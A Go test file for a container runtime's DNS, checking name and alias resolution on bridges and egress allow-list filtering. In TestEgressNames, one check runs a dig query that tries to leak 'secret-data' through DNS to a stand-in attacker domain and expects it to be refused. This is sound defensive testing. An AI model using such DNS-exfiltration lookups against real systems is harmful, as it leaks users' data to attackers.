//go:build linux

package container

import (
	"net/netip"
	"strings"
	"testing"

	"example.com/container/internal/testenv"
	"golang.org/x/net/dns/dnsmessage"
)

// This file asks for names in whole containers, with dig.

// askNames asks in a container, and returns the answers on a line each.
func askNames(t *testing.T, c *Container, questions ...string) string {
	t.Helper()
	script := ""
	for _, q := range questions {
		script += "dig +short +tries=1 +time=30 " + q + " | tr '\n' ' '; echo; "
	}
	return netExec(t, c, script)
}

// Containers on a bridge find each other by all their names, for as long as they are there.
func TestBridgeNames(t *testing.T) {
	testenv.Need(t, testenv.Program("dnsmasq", "dnsmasq-base"), testenv.Program("dig", "bind9-dnsutils"))
	inHostNetwork(t, func(t *testing.T) {
		startDNSMasq(t, "53", testRecords()...)
		for name, cfg := range netKinds(t) {
			t.Run(name, func(t *testing.T) {
				cfg.Root = HostRoot
				n := *cfg.Network
				cfg.Network = &n
				n.NameServer, n.DNS = true, []netip.Addr{netip.MustParseAddr("127.0.0.1")}
				client := lifeStart(t, cfg, lifeSh("sleep 1000"))
				n.NameServer, n.DNS, n.Aliases = false, nil, []string{"web", "db.internal"}
				cfg.Hostname = "Server-1"
				web := lifeStart(t, cfg, lifeSh("sleep 1000"))
				st := netState(t, web)
				v4, v6 := st.Addresses[0].Addr().String(), st.Addresses[1].Addr().String()
				got := askNames(t, client, "@127.0.0.11 web", "@127.0.0.11 web aaaa", "@127.0.0.11 +tcp db.internal.", "@127.0.0.11 SERVER-1", "@127.0.0.11 -x "+v4, "@127.0.0.11 -x "+v6, "@127.0.0.11 www.example.test", "@127.0.0.11 nobody")
				wantText(t, got, strings.Join([]string{v4, v6, v4, v4, "life.", "life.", "192.0.2.10", "\n"}, " \n"))
				askInternal(t, st)
				if got := netExec(t, client, "getent ahostsv4 web | head -1; getent ahostsv4 www.example.test | head -1"); strings.Join(strings.Fields(got), " ") != v4+" STREAM web 192.0.2.10 STREAM www.example.test" {
					t.Errorf("getent: %q", got)
				}
				if err := web.Destroy(); err != nil {
					t.Fatal(err)
				}
				if got := askNames(t, client, "@127.0.0.11 web", "@127.0.0.11 -x "+v4); strings.TrimSpace(got) != "" {
					t.Errorf("of one that is gone: %q", got)
				}
				if err := client.Destroy(); err != nil {
					t.Fatal(err)
				}
			})
		}
	})
}

// askInternal asks as on a bridge that nothing leads out of: nothing is forwarded.
func askInternal(t *testing.T, st *NetworkState) {
	t.Helper()
	store, err := openNetworkStore(st.StateDir)
	if err != nil {
		t.Fatal(err)
	}
	b := &Bridge{BridgeConfig: BridgeConfig{Name: st.Bridge, Internal: true}}
	s := newDNSServer(bridgeNames(store, b, &NetworkConfig{DNS: []netip.Addr{netip.MustParseAddr("127.0.0.1")}}))
	defer s.close()
	if m := askDNS(t, s, dnsQuestion(t, "web.", dnsmessage.TypeA, 0), false); len(m.Answers) != 1 {
		t.Errorf("internal: %v", m)
	}
	if m := askDNS(t, s, dnsQuestion(t, "www.example.test.", dnsmessage.TypeA, 0), false); m.RCode != dnsmessage.RCodeRefused {
		t.Errorf("internal: %v", m)
	}
}

// A container with a way out gets the names that it may go to, whatever server it asks, and what they resolve to.
func TestEgressNames(t *testing.T) {
	testenv.Need(t, testenv.Program("dnsmasq", "dnsmasq-base"), testenv.Program("dig", "bind9-dnsutils"))
	inHostNetwork(t, func(t *testing.T) {
		startDNSMasq(t, "53", testRecords()...)
		cfg, _ := lifeConfig(t)
		cfg.Root = HostRoot
		cfg.Network = &NetworkConfig{Mode: NetworkModeEgress, EgressAllow: []string{"*.example.test"}, DNS: []netip.Addr{netip.MustParseAddr("127.0.0.1")}}
		c := lifeStart(t, cfg, lifeSh("sleep 1000"))
		got := askNames(t, c, "@127.0.0.11 www.example.test", "@8.8.8.8 alias.example.test", "@8.8.8.8 +tcp www.example.test aaaa", "@2001:db8::53 www.example.test", "@2001:db8::53 +tcp www.example.test",
			"@8.8.8.8 svc.example.test https", "@8.8.8.8 other.test", "@8.8.8.8 +tcp other.test", "@8.8.8.8 example.test mx", "@8.8.8.8 -x 192.0.2.10")
		wantText(t, got, strings.Join([]string{"192.0.2.10", "www.example.test. 192.0.2.10", "2001:db8::10", "192.0.2.10", "192.0.2.10", "1 . ipv4hint=192.0.2.11", "\n\n\n\n"}, " \n"))
		if got := netExec(t, c, "getent ahostsv4 alias.example.test | head -1"); strings.Join(strings.Fields(got), " ") != "192.0.2.10 STREAM www.example.test" {
			t.Errorf("getent: %q", got)
		}
		if got := netExec(t, c, "dig @8.8.8.8 big.example.test txt | grep -c xxx; dig @8.8.8.8 secret-data.attacker.example | grep -o 'status: [A-Z]*'"); got != "1\nstatus: REFUSED\n" {
			t.Errorf("%q", got)
		}
	})
}
